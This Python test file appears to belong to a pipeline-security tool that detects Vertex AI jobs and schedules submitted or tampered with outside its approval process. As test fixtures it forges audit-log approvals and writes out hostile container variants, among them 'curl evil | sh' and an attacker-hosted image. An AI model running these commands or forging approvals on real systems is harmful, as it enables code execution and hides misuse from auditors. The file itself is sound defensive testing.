"""Shadow pipelines: ``monitor`` lists every job and schedule through the real Vertex AI
clients against the emulator, flags what zt-pipelines did not submit, verifies finished runs
and checks active schedules for drift."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from google.cloud import aiplatform
from google.cloud.aiplatform import initializer
from monitor_world import (
    AUDITOR,
    EXAMPLES,
    LOCATION,
    PIPELINE_SA,
    PROJECT,
    SUBMITTER,
    monitor_world,
    new_job_id,
)

from zt_pipelines.audit import AuditLog
from zt_pipelines.cli import main
from zt_pipelines.emulator import Emulator, Fault, emulator_credentials
from zt_pipelines.gcp.clients import ClientFactory, emulator_aiplatform_init_kwargs
from zt_pipelines.gcp.retry import no_wait_policy
from zt_pipelines.job import PipelineJob
from zt_pipelines.monitor.service import monitor_once


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> str:
    out = tmp_path_factory.mktemp("tpl") / "training.yaml"
    return str(EXAMPLES.compile_pipeline("training", str(out)))


@pytest.fixture()
def emu(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
    with Emulator(monitor_world(), simulate_runs=True) as emulator:
        monkeypatch.setenv("ZT_EMULATOR_HOST", emulator.address)
        monkeypatch.setenv("STORAGE_EMULATOR_HOST", f"http://{emulator.address}")
        monkeypatch.setenv("NO_GCE_CHECK", "True")  # plain aiplatform's ADC: no metadata probe
        config = initializer.global_config
        saved = dict(vars(config))
        config.__init__()  # type: ignore[misc]
        aiplatform.init(project=PROJECT, location=LOCATION)
        try:
            yield emulator
        finally:
            vars(config).clear()
            vars(config).update(saved)


@pytest.fixture()
def audit(tmp_path: Path) -> AuditLog:
    return AuditLog(tmp_path / "audit.jsonl")


def zt_job(template: str, audit: AuditLog) -> PipelineJob:
    return PipelineJob(
        display_name="training",
        template_path=template,
        job_id=new_job_id(),
        pipeline_root=EXAMPLES.PIPELINE_ROOT,
        credentials=emulator_credentials(SUBMITTER),
        audit_log=audit,
    )


def plain_job(template: str, tmp_path: Path) -> aiplatform.PipelineJob:
    plain = tmp_path / "plain.json"
    plain.write_text(json.dumps(next(yaml.safe_load_all(Path(template).read_text()))))
    aiplatform.init(
        project=PROJECT,
        location=LOCATION,
        **emulator_aiplatform_init_kwargs(emulator_credentials(SUBMITTER)),
    )
    return aiplatform.PipelineJob(
        display_name="shadow",
        template_path=str(plain),
        job_id=new_job_id(),
        # a bucket that does not exist: aiplatform's ownership check of an existing one asks
        # the real Resource Manager for the project number (no network here)
        pipeline_root=f"gs://zt-shadow-{new_job_id()}/runs",
    )


def once(audit: AuditLog) -> tuple[object, list[object]]:
    return monitor_once(
        PROJECT,
        LOCATION,
        audit_log=audit,
        factory=ClientFactory(emulator_credentials(AUDITOR)),
        retry=no_wait_policy(2),
    )


def test_shadow_jobs_and_schedules_are_flagged_and_zt_runs_verified(
    emu: Emulator, template: str, audit: AuditLog, tmp_path: Path
) -> None:
    good = zt_job(template, audit)
    good.submit(service_account=PIPELINE_SA)
    good.wait()
    zt_job(template, audit).create_schedule(
        cron="0 * * * *", display_name="hourly", service_account=PIPELINE_SA
    )
    shadow = plain_job(template, tmp_path)
    shadow.submit(service_account=PIPELINE_SA)
    shadow.create_schedule(
        cron="0 1 * * *", display_name="nightly-shadow", service_account=PIPELINE_SA
    )
    report, results = once(audit)
    shadows = report.by_code("ZT640")  # type: ignore[attr-defined]
    assert [f.resource.rsplit("/", 1)[-1] for f in shadows] == [shadow.job_id]
    [schedule] = report.by_code("ZT641")  # type: ignore[attr-defined]
    assert "nightly-shadow" in schedule.message
    verified = [r for r in results if hasattr(r, "verified")]
    assert [v.run.job_id for v in verified] == [good.job_id] and verified[0].verified
    assert any(hasattr(r, "drifted") for r in results)  # the zt schedule's drift
    assert not report.allowed  # type: ignore[attr-defined]
    # a second pass does not verify the same run again
    _report, again = once(audit)
    assert not [r for r in again if hasattr(r, "verified")]


def test_a_clean_location_is_allowed(emu: Emulator, template: str, audit: AuditLog) -> None:
    job = zt_job(template, audit)
    job.submit(service_account=PIPELINE_SA)
    job.wait()
    report, _ = once(audit)
    assert report.allowed, report  # type: ignore[attr-defined]


def test_a_failed_list_is_never_clean(emu: Emulator, template: str, audit: AuditLog) -> None:
    emu.add_fault(Fault("aiplatform.pipelineJobs.list", code="UNAVAILABLE"))
    report, _ = once(audit)
    assert not report.allowed and "ZT600" in report.codes()  # type: ignore[attr-defined]


def test_monitor_cli_prints_json_lines(
    emu: Emulator,
    template: str,
    audit: AuditLog,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    plain_job(template, tmp_path).submit(service_account=PIPELINE_SA)
    monkeypatch.setenv("ZT_EMULATOR_CALLER", AUDITOR)
    with pytest.raises(SystemExit) as done:
        main(
            [
                "monitor",
                "--project",
                PROJECT,
                "--location",
                LOCATION,
                "--audit-log",
                str(audit.path),
                "--format",
                "jsonl",
            ]
        )
    assert done.value.code == 1
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines() if line]
    assert [line["code"] for line in lines] == ["ZT640"]


def test_runs_a_zt_schedule_started_are_verified_not_flagged(
    emu: Emulator, template: str, audit: AuditLog
) -> None:
    schedule = zt_job(template, audit).create_schedule(
        cron="0 * * * *", display_name="hourly", service_account=PIPELINE_SA
    )
    fired = emu.run_schedule(str(schedule.resource_name))
    report, results = once(audit)
    assert not report.by_code("ZT640")  # type: ignore[attr-defined]
    verified = [r for r in results if hasattr(r, "verified")]
    assert [v.run.name for v in verified] == [fired] and verified[0].verified
    assert report.allowed, report  # type: ignore[attr-defined]


def test_an_early_verify_run_does_not_exempt_the_run_from_monitor(
    emu: Emulator, template: str, audit: AuditLog
) -> None:
    from zt_pipelines.audit import Decision

    job = zt_job(template, audit)
    job.submit(service_account=PIPELINE_SA)
    job.wait()
    # an older log: a verify-run recorded "allowed" while the run had not ended (ZT613)
    audit.append(
        Decision(
            action="verify-run",
            outcome="allowed",
            submitter="user:ci@example.com",
            project=PROJECT,
            location=LOCATION,
            pipeline="zt-demo-training",
            findings=({"code": "ZT613", "severity": "warning", "message": "running"},),
            job_id=job.job_id,
        )
    )
    _report, results = once(audit)
    verified = [r for r in results if hasattr(r, "verified")]
    assert [v.run.job_id for v in verified] == [job.job_id] and verified[0].verified


def test_a_schedule_with_copied_labels_is_a_shadow(
    emu: Emulator, template: str, audit: AuditLog, tmp_path: Path
) -> None:
    from google.cloud import aiplatform_v1
    from google.protobuf import json_format

    good = zt_job(template, audit)
    schedule = good.create_schedule(
        cron="0 * * * *", display_name="hourly", service_account=PIPELINE_SA
    )
    copied = {k: v for k, v in good._gca_resource.labels.items() if k.startswith("zt-")}
    # 1. plain aiplatform, the raw template, no service account, the approved labels copied
    shadow = plain_job(template, tmp_path)
    shadow._gca_resource.labels = copied
    shadow.create_schedule(cron="0 1 * * *", display_name="copied-labels")
    # 2. the approved request itself, re-created with another parameter value
    sent = copy.deepcopy(emu.schedules[str(schedule.resource_name)])
    request = sent["createPipelineJobRequest"]["pipelineJob"]
    request["runtimeConfig"].setdefault("parameterValues", {})["source"] = "gs://attacker/x/"
    other = aiplatform_v1.Schedule.pb(aiplatform_v1.Schedule())
    json_format.ParseDict(
        {k: v for k, v in sent.items() if k not in ("name", "state")}
        | {"displayName": "other-parameters"},
        other,
        ignore_unknown_fields=True,
    )
    aiplatform_v1.ScheduleServiceClient(
        credentials=emulator_credentials(SUBMITTER),
        transport="rest",
        client_options={"api_endpoint": f"http://{emu.address}"},
    ).create_schedule(
        parent=f"projects/{PROJECT}/locations/{LOCATION}",
        schedule=aiplatform_v1.Schedule.wrap(other),
    )
    report, _results = once(audit)
    flagged = {f.message.split(" (")[0]: f.message for f in report.by_code("ZT641")}  # type: ignore[attr-defined]
    assert (
        "schedule copied-labels" in flagged and "does not hash" in flagged["schedule copied-labels"]
    )
    assert "parameter source" in flagged["schedule other-parameters"]
    assert "schedule hourly" not in flagged
    # and the copies' runs are no usage windows of the approved step identities
    emu.run_schedule(str(schedule.resource_name))
    for name in emu.schedules:
        if name != str(schedule.resource_name):
            emu.run_schedule(name)
    from zt_pipelines.monitor.service import usage

    emu.set_audit_configs(PROJECT, {"allServices": ("DATA_READ", "DATA_WRITE")})
    verdict = usage(
        PROJECT,
        audit_log=audit,
        factory=ClientFactory(emulator_credentials(AUDITOR)),
        retry=no_wait_policy(2),
        record=False,
    )
    assert verdict.report.by_code("ZT632")  # the copies' step uses lie outside approved runs


@pytest.mark.parametrize(
    ("field", "value"),
    [
        (
            "pscInterfaceConfig",
            {"networkAttachment": "projects/attacker/regions/us-central1/networkAttachments/x"},
        ),
        ("templateUri", "https://us-central1-kfp.pkg.dev/attacker/repo/training/v1"),
    ],
)
def test_a_schedule_patched_in_any_request_field_is_a_shadow_and_its_runs_differ(
    emu: Emulator, template: str, audit: AuditLog, field: str, value: object
) -> None:
    """The approval hashes the whole request (minus output-only fields and what is compared
    on its own), so a field nobody listed — a PSC interface into another project's VPC — is
    covered by default."""
    from zt_pipelines.monitor.service import verify_run

    schedule = zt_job(template, audit).create_schedule(
        cron="0 * * * *", display_name="hourly", service_account=PIPELINE_SA
    )
    name = str(schedule.resource_name)
    report, _ = once(audit)
    assert not report.by_code("ZT641")  # type: ignore[attr-defined]
    # schedules.patch by someone outside zt-pipelines
    emu._world.schedules[name]["createPipelineJobRequest"]["pipelineJob"][field] = value  # type: ignore[attr-defined]
    report, _ = once(audit)
    [shadow] = report.by_code("ZT641")  # type: ignore[attr-defined]
    assert "request" in shadow.message, shadow.message
    run = emu.run_schedule(name)
    verdict = verify_run(
        run,
        project=PROJECT,
        location=LOCATION,
        audit_log=audit,
        factory=ClientFactory(emulator_credentials(AUDITOR)),
        retry=no_wait_policy(2),
        record=False,
    )
    [changed] = verdict.report.by_code("ZT615")
    assert "request" in changed.message and not verdict.verified


def test_an_approval_before_request_hashes_is_compared_on_what_it_holds() -> None:
    from zt_pipelines.monitor.baseline import comparable

    observed = {"parameter x": "1", "request psc_interface_config": "2"}
    assert comparable({"version": 1}, observed) == {"parameter x": "1"}
    assert comparable({"version": 2}, observed) == observed


def test_a_job_with_copied_labels_is_a_shadow_while_it_runs(
    emu: Emulator, template: str, audit: AuditLog, tmp_path: Path
) -> None:
    """Labels are not evidence for jobs either: a plain-aiplatform job of the raw template
    (Compute default identity) with a zt schedule's labels, or with the labels and the job id
    of a zt approval, is a shadow (its spec is re-hashed, its identity compared), whether or
    not it has ended; the zt schedule's own runs are not."""
    good = zt_job(template, audit)
    schedule = good.create_schedule(
        cron="0 * * * *", display_name="hourly", service_account=PIPELINE_SA
    )
    copied = {k: v for k, v in good._gca_resource.labels.items() if k.startswith("zt-")}
    emu.run_schedule(str(schedule.resource_name))  # a genuine run of the approved schedule
    shadow = plain_job(template, tmp_path)
    shadow._gca_resource.labels = copied
    shadow.submit()
    direct = zt_job(template, audit)
    direct.submit(service_account=PIPELINE_SA)  # a genuine direct run
    report, _results = once(audit)
    flagged = [f for f in report.by_code("ZT640")]  # type: ignore[attr-defined]
    assert [f.resource for f in flagged] == [shadow.resource_name], [f.message for f in flagged]
    assert "not what was approved" in flagged[0].message
    # the same labels on a copy of the approved request whose run-as account differs
    from zt_pipelines.fingerprint import SPEC_LABELS
    from zt_pipelines.monitor.shadow import JobSummary, find_shadows

    [approval] = [
        r for r in audit.records() if r["action"] == "submit" and r["job_id"] == direct.job_id
    ]
    digest = str(approval["spec_sha256"])
    twin = JobSummary(
        f"projects/{PROJECT}/locations/{LOCATION}/pipelineJobs/{direct.job_id}",
        "PIPELINE_STATE_RUNNING",
        {k: v for k, v in direct._gca_resource.labels.items()},
        spec_sha256=digest,
        service_account="someone-else@zt-demo.iam.gserviceaccount.com",
        runtime={},
    )
    result = find_shadows(
        [twin],
        [],
        audit.records(),
        project=PROJECT,
        location=LOCATION,
        spec_labels=SPEC_LABELS,
    )
    [finding] = result.findings
    assert finding.code == "ZT640" and "runs as someone-else" in finding.message


def test_a_self_written_approval_of_a_job_submitted_around_zt_is_still_a_shadow(
    emu: Emulator, template: str, audit: AuditLog, tmp_path: Path
) -> None:
    """Whoever can append to the log can chain a line saying "allowed" (the chain proves the
    lines agree, not who wrote them): the job itself must hold a spec the rewrite could have
    produced, and a raw template runs every step's code as the job's own account."""
    from zt_pipelines.audit.chain import canonical, sha256_hex
    from zt_pipelines.fingerprint import SPEC_LABELS, spec_sha256

    good = zt_job(template, audit)
    good.submit(service_account=PIPELINE_SA)
    raw = next(yaml.safe_load_all(Path(template).read_text()))
    shadow = plain_job(template, tmp_path)
    digest = spec_sha256(raw)
    shadow._gca_resource.labels = {SPEC_LABELS[0]: digest[:32], SPEC_LABELS[1]: digest[32:]}
    shadow.submit(service_account=PIPELINE_SA)
    last = audit.lines()[-1]
    forged = {
        "action": "submit",
        "outcome": "allowed",
        "time": "2026-11-30T02:00:00.000+00:00",
        "submitter": SUBMITTER,
        "project": PROJECT,
        "location": LOCATION,
        "pipeline": str(raw["pipelineInfo"]["name"]),
        "job_id": shadow.job_id,
        "spec_sha256": digest,
        "identities": [
            {"role": "pipeline", "task": "", "source": "argument", "service_account": PIPELINE_SA}
        ],
        "findings": [],
        "reason": "allowed",
        "seq": json.loads(last)["seq"] + 1,
        "prev": sha256_hex(last),
        "v": 1,
    }
    forged["hash"] = sha256_hex(canonical(forged))
    with audit.path.open("ab") as fh:
        fh.write(canonical(forged) + b"\n")
    assert audit.verify().ok  # the chain holds: it is the job that gives the forgery away
    report, _results = once(audit)
    [flagged] = report.by_code("ZT640")  # type: ignore[attr-defined]
    assert flagged.resource.endswith(shadow.job_id)
    assert "is not what was approved" in flagged.message
    assert "as the job's own account" in flagged.message


def test_an_approval_naming_other_step_identities_than_the_spec_pins_is_a_shadow(
    emu: Emulator, template: str, audit: AuditLog, tmp_path: Path
) -> None:
    """A spec of the rewrite's own shape with another identity pinned on one step, submitted
    around zt with a self-written approval copying a genuine record's identities: while the job
    runs, monitor compares each step's pinned identity with the approval's (as verify-run does
    after the run) and flags it; the genuine job beside it stays approved."""
    from zt_pipelines.audit.chain import canonical, sha256_hex
    from zt_pipelines.fingerprint import SPEC_LABELS, spec_sha256

    good = zt_job(template, audit)
    good.submit(service_account=PIPELINE_SA)
    genuine = json.loads(audit.lines()[-1])
    train_sa = next(i["service_account"] for i in genuine["identities"] if i.get("task") == "train")
    out = tmp_path / "rw.yaml"
    with pytest.raises(SystemExit) as done:
        main(
            [
                "rewrite",
                template,
                "--project",
                PROJECT,
                "--pipeline-sa",
                PIPELINE_SA,
                "-o",
                str(out),
            ]
        )
    assert done.value.code == 0
    legacy = f"legacy-sa@{PROJECT}.iam.gserviceaccount.com"
    text = json.dumps(next(yaml.safe_load_all(out.read_text())))
    assert train_sa in text
    spec = json.loads(text.replace(train_sa, legacy))
    plain = tmp_path / "plain.json"
    plain.write_text(json.dumps(spec))
    shadow = aiplatform.PipelineJob(
        display_name="shadow",
        template_path=str(plain),
        job_id=new_job_id(),
        pipeline_root=EXAMPLES.PIPELINE_ROOT,
        credentials=emulator_credentials(SUBMITTER),
    )
    digest = spec_sha256(spec)
    shadow._gca_resource.labels = {SPEC_LABELS[0]: digest[:32], SPEC_LABELS[1]: digest[32:]}
    shadow.submit(service_account=PIPELINE_SA)
    last = audit.lines()[-1]
    forged = {
        **{k: v for k, v in genuine.items() if k not in ("seq", "prev", "hash")},
        "job_id": shadow.job_id,
        "spec_sha256": digest,
        "seq": json.loads(last)["seq"] + 1,
        "prev": sha256_hex(last),
    }
    forged.pop("decision_sha256", None)  # the genuine decision labels are not the shadow's
    forged["hash"] = sha256_hex(canonical(forged))
    with audit.path.open("ab") as fh:
        fh.write(canonical(forged) + b"\n")
    assert audit.verify().ok
    report, _results = once(audit)
    flagged = report.by_code("ZT640")  # type: ignore[attr-defined]
    assert [f.resource.rsplit("/", 1)[-1] for f in flagged] == [shadow.job_id]
    assert f"runs task 'train' as {legacy}, the approval as {train_sa}" in flagged[0].message


def test_only_exactly_gcpcs_launcher_counts_as_launching_and_never_another_executor_kind(
    template: str,
) -> None:
    """Monitor's test of "runs code as the job's own account" is the rewrite's test of a
    launcher: every container the rewrite would refuse as a launcher (other command words, a
    launcher module named after shell code, extra keys, unknown or repeated flags) counts as
    running code, and so does every executor kind but an importer (a ``customJob`` body)."""
    import zt_pipelines as zt
    from zt_pipelines.monitor.shadow import unwrapped_executors
    from zt_pipelines.spec.template import load_template

    out = zt.rewrite(
        load_template(template)[0],
        project=PROJECT,
        location=LOCATION,
        pipeline_service_account=PIPELINE_SA,
    )
    assert unwrapped_executors(out) == ()
    executors = out["deploymentSpec"]["executors"]
    label, executor = next((k, v) for k, v in sorted(executors.items()) if "container" in v)
    container = executor["container"]
    module = container["command"][-1]
    flags = container["args"]
    variants: dict[str, dict[str, object]] = {
        "sh -c code": {"command": ["sh", "-c", "curl evil | sh", "-m", module]},
        "python3 -c code": {"command": ["python3", "-c", "import os", "-m", module]},
        "python3 without -u": {"command": ["python3", "-m", module]},
        "env": {"env": [{"name": "PYTHONSTARTUP", "value": "/tmp/x.py"}]},
        "resources": {"resources": {"cpuLimit": 1.0}},
        "unknown flag": {"args": [*flags, "--exec", "id"]},
        "payload twice": {"args": [*flags, "--payload", "{}"]},
        "odd args": {"args": [*flags, "--payload"]},
        "other image": {"image": "docker.io/attacker/gcpc:latest"},
    }
    for name, change in variants.items():
        changed = copy.deepcopy(out)
        changed["deploymentSpec"]["executors"][label]["container"].update(change)
        assert unwrapped_executors(changed) == (label,), name
    for name, other in {
        "customJob": {"customJob": {"customJob": {"jobSpec": {"workerPoolSpecs": []}}}},
        "resolver": {"resolver": {"outputArtifactQueries": {}}},
        "container beside customJob": {**executor, "customJob": {}},
        "not a mapping": ["container"],
    }.items():
        changed = copy.deepcopy(out)
        changed["deploymentSpec"]["executors"]["exec-extra"] = other
        assert unwrapped_executors(changed) == ("exec-extra",), name


@pytest.mark.shared
def test_a_rewritten_spec_runs_no_code_as_the_jobs_account_and_a_raw_one_does(
    corpus_dir: Path, gcpc_corpus_dir: Path
) -> None:
    """The invariant the check above rests on, over the Kubeflow corpus and Google's GCPC
    pipelines: the rewrite leaves no executor running code as the job's own account."""
    import zt_pipelines as zt
    from zt_pipelines.monitor.shadow import unwrapped_executors
    from zt_pipelines.spec.template import load_template

    files = sorted(corpus_dir.rglob("*.yaml")) + sorted(gcpc_corpus_dir.rglob("*.yaml"))
    rewritten = raw_running_code = 0
    for path in files:
        try:
            spec = load_template(path)[0]
        except Exception:  # the corpus's deliberately broken files are other tests' business
            continue
        raw_running_code += bool(unwrapped_executors(spec))
        try:
            out = zt.rewrite(
                spec,
                project=PROJECT,
                location=LOCATION,
                pipeline_service_account=PIPELINE_SA,
            )
        except Exception:  # refused templates are other tests' business
            continue
        rewritten += 1
        assert unwrapped_executors(out) == (), path.name
    assert rewritten >= 100 and raw_running_code >= 100


def test_a_schedule_extended_beyond_the_window_it_was_judged_for_is_a_shadow(
    emu: Emulator, template: str, audit: AuditLog
) -> None:
    """A schedule's grants are judged until its end time: the approval records that window
    (and hashes it into decision_sha256), and a schedule whose end time was moved later or
    removed (schedules.patch, aiplatform's update()) runs into grants nobody judged."""
    schedule = zt_job(template, audit).create_schedule(
        cron="0 * * * *",
        display_name="until-2027",
        end_time="2027-01-01T00:00:00Z",
        service_account=PIPELINE_SA,
    )
    approval = audit.records()[-1]
    assert approval["window"] == {"until": "2027-01-01T00:00:00.000+00:00"}
    name = str(schedule.resource_name)
    report, _ = once(audit)
    assert not report.by_code("ZT641")  # type: ignore[attr-defined]
    served = emu._world.schedules[name]  # type: ignore[attr-defined]
    served["endTime"] = "2026-12-01T00:00:00Z"  # shortened: still inside the window
    report, _ = once(audit)
    assert not report.by_code("ZT641")  # type: ignore[attr-defined]
    served["endTime"] = "2027-06-01T00:00:00Z"
    report, _ = once(audit)
    [later] = report.by_code("ZT641")  # type: ignore[attr-defined]
    assert "after 2027-01-01" in later.message, later.message
    del served["endTime"]
    report, _ = once(audit)
    [forever] = report.by_code("ZT641")  # type: ignore[attr-defined]
    assert "runs for ever" in forever.message, forever.message
